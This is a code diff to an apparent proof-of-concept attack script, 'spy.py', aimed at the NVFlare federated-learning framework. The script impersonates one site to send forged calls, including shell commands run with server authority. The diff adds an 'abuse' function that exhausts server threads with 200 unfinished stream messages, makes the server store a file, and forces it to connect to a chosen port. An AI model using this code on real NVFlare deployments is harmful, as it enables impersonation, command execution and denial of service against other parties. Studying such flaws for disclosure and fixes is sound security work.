@@ -3,7 +3,9 @@
 ``python spy.py STARTUP PORT ORIGIN TARGET WHAT``, with a token in the environment,
 connects as a part of its own site and sends the job cell ``TARGET`` a call as if
 ``ORIGIN`` had: the bytes in the file ``WHAT``; or so many MB as an answer to nothing;
-or the shell command ``WHAT``, as the server could.
+or the shell command ``WHAT``, as the server could;
+or, for a number with a colon before it, messages that make NVFlare connect to that
+port, store a file, and wait for their rest.
 NVFlare's own classes do all the rest.
 """
 
@@ -17,10 +19,18 @@ from nvflare.apis.utils.decomposers import flare_decomposers
 from nvflare.collab.runtime.defs import CALL_PROTOCOL_VERSION as VERSION
 from nvflare.collab.runtime.defs import MSG_CHANNEL, MSG_TOPIC, CallHeaderKey
 from nvflare.fuel.f3.cellnet.cell import Cell
-from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageHeaderKey
+from nvflare.fuel.f3.cellnet.defs import CellChannel, Encoding, MessageHeaderKey
 from nvflare.fuel.f3.cellnet.utils import new_cell_message
 from nvflare.fuel.f3.message import Message
+from nvflare.fuel.f3.streaming.stream_const import (
+    STREAM_CHANNEL,
+    STREAM_DATA_TOPIC,
+    StreamDataType,
+    StreamHeaderKey,
+)
 from nvflare.fuel.sec.authn import set_add_auth_headers_filters
+from nvflare.fuel.utils.fobs import lobs
+from nvflare.fuel.utils.fobs.datum import Datum
 from nvflare.private.admin_defs import Message as Command
 from nvflare.private.fed.utils.fed_utils import fobs_initialize
 
@@ -29,6 +39,39 @@ def say(what):
     sys.stdout.write(f"{what}\n")
     sys.stdout.flush()
     os._exit(0)
+
+
+UNFINISHED = 200
+"""Messages without an end: more than NVFlare has threads."""
+
+
+def abuse(cell, site, target, port):
+    send = cell.core_cell.fire_and_forget
+    encoding = {StreamHeaderKey.PAYLOAD_ENCODING: Encoding.FOBS}
+    unreadable = Message(encoding, b"unreadable")
+    cell.send_blob(CellChannel.SERVER_COMMAND, "submit_update", target, unreadable)
+    time.sleep(1.0)
+    for number in range(UNFINISHED):
+        piece = {
+            StreamHeaderKey.CHANNEL: CellChannel.SERVER_COMMAND,
+            StreamHeaderKey.TOPIC: "get_task",
+            StreamHeaderKey.STREAM_ID: number,
+            StreamHeaderKey.SEQUENCE: 0,
+            StreamHeaderKey.SIZE: 1000,
+            StreamHeaderKey.DATA_TYPE: StreamDataType.CHUNK,
+        }
+        send(STREAM_CHANNEL, STREAM_DATA_TOPIC, target, Message(piece, b"1"))
+    file = lobs.dump_to_bytes({"file": Datum.file_datum(__file__)})
+    encoding = {MessageHeaderKey.PAYLOAD_ENCODING: Encoding.FOBS}
+    send("none", "none", "server", Message(encoding, file))
+    url = f"tcp://localhost:{port}?connection_security=clear"
+    address = {MessageHeaderKey.CONN_URL: url, MessageHeaderKey.FROM_CELL: site}
+    cell.core_cell.add_outgoing_request_filter(
+        "*", "*", lambda message: message.add_headers(address)
+    )
+    send("none", "none", "server", Message())
+    time.sleep(1.0)
+    say("sent")
 
 
 def main(startup, port, origin, target, what):
@@ -55,6 +98,8 @@ def main(startup, port, origin, target, what):
     cell.core_cell.add_outgoing_request_filter("*", "*", forge)
     while "server" not in cell.core_cell.agents:
         time.sleep(0.1)
+    if what.startswith(":"):
+        abuse(cell, site, target, what[1:])
     if what.isdigit():
         blob = Message(payload=bytes(int(what) * 2**20))
         sent = cell.send_blob(CellChannel.RETURN_ONLY, "collab:call", target, blob)
